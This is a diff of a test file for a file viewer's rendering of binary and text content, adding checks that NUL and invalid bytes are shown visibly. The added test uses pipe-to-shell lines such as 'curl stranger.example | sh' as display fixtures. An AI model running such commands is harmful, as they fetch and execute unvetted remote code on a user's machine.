@@ -121,8 +121,15 @@ describe('a file', () => {
     String(filePage(frame, { detail: detail(), path: 'a.bin', sha256: someDigest('x'), bytes, sheet }));
 
   it('is shown as hexadecimal when it is no text', () => {
-    expect(view(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0]))).toContain('7f 45 4c 46 00');
+    expect(view(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe, 0xfd]))).toContain('7f 45 4c 46 00');
     expect(view(Uint8Array.from([0xff, 0xfe]))).toContain('binary');
+  });
+
+  it('is shown as text in spite of a zero or a wrong byte, which are shown', () => {
+    expect(view(Buffer.from('curl x | sh\0\n'))).toContain('curl x | sh<span class="chip" title="U+0000">');
+    expect(view(Buffer.from([...Buffer.from('curl stranger.example | sh # '), 0xff]))).toContain(
+      'curl stranger.example | sh # \ufffd',
+    );
   });
 
   it('comes in sheets when it is long, and a line’s address leads to its sheet', () => {
